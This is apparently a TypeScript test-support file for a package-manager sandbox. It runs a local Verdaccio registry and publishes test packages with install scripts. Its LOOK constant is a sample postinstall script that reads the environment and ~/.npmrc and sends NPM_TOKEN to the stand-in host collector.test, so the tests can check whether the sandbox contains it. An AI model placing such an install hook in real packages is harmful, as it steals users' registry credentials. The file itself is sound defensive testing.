import { execFileSync, spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { join } from 'node:path';
import { onTestFinished } from 'vitest';
import { type Ended, execute, type Place, until } from './sallyport.test-support.ts';
import { TOOLS } from './tools.test-support.ts';

export interface PrivateRegistry {
  readonly port: number;
  /** Opens it; made by the registry itself for one user. */
  readonly token: string;
  /** Tarballs that were handed out since the last look. */
  readonly takeDownloads: () => readonly string[];
  /** Publishes `answer`, which exports a number and looks around when it is installed. */
  readonly publish: (version: string, answer: number) => Promise<void>;
}

const CONFIG = `
storage: ./storage
auth: { htpasswd: { file: ./htpasswd, max_users: 10 } }
packages: { '**': { access: $authenticated, publish: $authenticated } }
log: { type: stdout, format: json, level: http }
`;

/** What a package does that wants to know what it can get: its environment, the user's settings, another host. */
const LOOK = `
const fs = require('fs');
const attempt = (what) => { try { return what(); } catch (error) { return error.code; } };
const seen = { env: process.env, npmrc: attempt(() => fs.readFileSync(process.env.HOME + '/.npmrc', 'utf8')) };
fetch('http://collector.test/?' + process.env.NPM_TOKEN).then((r) => r.status, (e) => String(e.cause)).then((sent) => {
  fs.writeFileSync('seen.json', JSON.stringify({ ...seen, sent }));
});`;

/** Verdaccio on loopback, which takes nothing without a token, and shows nothing unless it is open. */
export async function startRegistry(place: Place, tool: string, isOpen = false): Promise<PrivateRegistry> {
  const folder = join(place.root, 'registry');
  mkdirSync(folder);
  writeFileSync(join(folder, 'config.yaml'), isOpen ? CONFIG.replace('access: $authenticated', 'access: $all') : CONFIG);
  const log: string[] = [];
  const port = await listening(join(tool, TOOLS.verdaccio.program), folder, place.env, log);
  const base = `http://127.0.0.1:${port}/`;
  const user = await fetch(`${base}-/user/org.couchdb.user:ci`, {
    method: 'PUT',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ name: 'ci', password: 'made up for this test' }),
  });
  const { token }: { token?: string } = JSON.parse(await user.text());
  if (token === undefined) throw new Error('the registry gave no token');
  return {
    port,
    token,
    takeDownloads: () => {
      const lines = log.splice(0).join('').split('\n');
      // A request has two lines in the log: when its answer begins, and when it ends.
      return [...new Set(lines.flatMap((line) => /"url":"([^"]+\.tgz)".*"status":200/.exec(line)?.[1] ?? []))];
    },
    publish: (version, answer) => {
      const manifest = { name: 'answer', version, scripts: { postinstall: 'node look.js' } };
      return publish({ place, port, token }, manifest, { 'index.js': `module.exports = ${answer};\n`, 'look.js': LOOK });
    },
  };
}

/** Starts the program and returns its port; where another took the port that was free, it takes the next. */
async function listening(program: string, cwd: string, env: Place['env'], log: string[]): Promise<number> {
  for (let attempt = 0; attempt < 3; attempt++) {
    const port = await freePort();
    const server = spawn(process.execPath, [program, '--config', 'config.yaml', '--listen', `127.0.0.1:${port}`], {
      cwd,
      env,
      stdio: ['ignore', 'pipe', 'ignore'],
    });
    server.stdout.setEncoding('utf8').on('data', (text: string) => log.push(text));
    onTestFinished(() => void server.kill('SIGKILL'));
    const answers = (): Promise<boolean> =>
      fetch(`http://127.0.0.1:${port}/-/ping`).then(
        (response) => response.ok,
        () => false,
      );
    const isUp = await until(async () => server.exitCode !== null || (await answers()));
    if (isUp && server.exitCode === null) return port;
    server.kill('SIGKILL');
  }
  throw new Error(`the registry does not start: ${log.join('')}`);
}

interface Manifest {
  readonly name: string;
  readonly version: string;
  readonly scripts: Readonly<Record<string, string>>;
  readonly dependencies?: Readonly<Record<string, string>>;
}

/** Sends what `npm publish` sends, without the second that npm takes for it. */
async function publish(
  { place, port, token }: { readonly place: Place; readonly port: number; readonly token: string },
  manifest: Manifest,
  files: Readonly<Record<string, string>>,
): Promise<void> {
  const { name, version } = manifest;
  const source = join(place.root, `source-${name}-${version}`);
  mkdirSync(join(source, 'package'), { recursive: true });
  for (const [file, text] of Object.entries({ ...files, 'package.json': JSON.stringify({ ...manifest, main: 'index.js' }) })) {
    writeFileSync(join(source, 'package', file), text);
  }
  const tarball = execFileSync('tar', ['-cz', '-C', source, 'package']);
  const digest = (algorithm: string, encoding: 'hex' | 'base64') => createHash(algorithm).update(tarball).digest(encoding);
  const file = `${name}-${version}.tgz`;
  const dist = {
    integrity: `sha512-${digest('sha512', 'base64')}`,
    shasum: digest('sha1', 'hex'),
    tarball: `http://127.0.0.1:${port}/${name}/-/${file}`,
  };
  const document = {
    _id: name,
    name,
    'dist-tags': { latest: version },
    versions: { [version]: { ...manifest, main: 'index.js', _id: `${name}@${version}`, dist } },
    _attachments: {
      [file]: { content_type: 'application/octet-stream', data: tarball.toString('base64'), length: tarball.length },
    },
  };
  const answer = await fetch(`http://127.0.0.1:${port}/${name}`, {
    method: 'PUT',
    headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
    body: JSON.stringify(document),
  });
  if (!answer.ok) throw new Error(`the registry takes no ${file}: ${answer.status} ${await answer.text()}`);
}

/** Before any cooldown. */
export const LONG_AGO = '2020-01-02T03:04:05.000Z';

export interface PublishedPackage {
  readonly name: string;
  readonly scripts?: Readonly<Record<string, string>>;
  readonly isFresh?: boolean;
  readonly dependencies?: Readonly<Record<string, string>>;
}

/** Publishes a package; unless it is fresh, the registry says that it did long ago. */
export async function publishPackage(
  place: Place,
  { port, token }: PrivateRegistry,
  { name, scripts = {}, isFresh, dependencies = {} }: PublishedPackage,
): Promise<void> {
  const files = { 'index.js': 'module.exports = 42;\n' };
  await publish({ place, port, token }, { name, version: '1.0.0', scripts, dependencies }, files);
  if (isFresh === true) return;
  const record = join(place.root, 'registry/storage', name, 'package.json');
  const document = JSON.parse(readFileSync(record, 'utf8'));
  document.time = { modified: LONG_AGO, created: LONG_AGO, '1.0.0': LONG_AGO };
  writeFileSync(record, JSON.stringify(document));
}

function freePort(): Promise<number> {
  const server = createServer();
  return new Promise((resolve) => {
    server.listen(0, '127.0.0.1', () => {
      const address = server.address();
      server.close(() => resolve(typeof address === 'object' && address !== null ? address.port : 0));
    });
  });
}

/** What the installed package saw; undefined where its script did not run. */
export function seenByPackage(place: Place): Readonly<Record<string, unknown>> | undefined {
  const path = join(place.workspace, 'node_modules/answer/seen.json');
  return existsSync(path) ? JSON.parse(readFileSync(path, 'utf8')) : undefined;
}

/** A package manager outside any cage, with the real token: how a person makes a lockfile. */
export async function onHost(place: Place, argv: readonly string[], env: Readonly<Record<string, string>>): Promise<Ended> {
  const [program = '', ...args] = argv;
  const ended = await execute(program, args, { cwd: place.workspace, env });
  if (ended.code !== 0) throw new Error(`${argv.join(' ')}: ${ended.stdout}${ended.stderr}`);
  return ended;
}
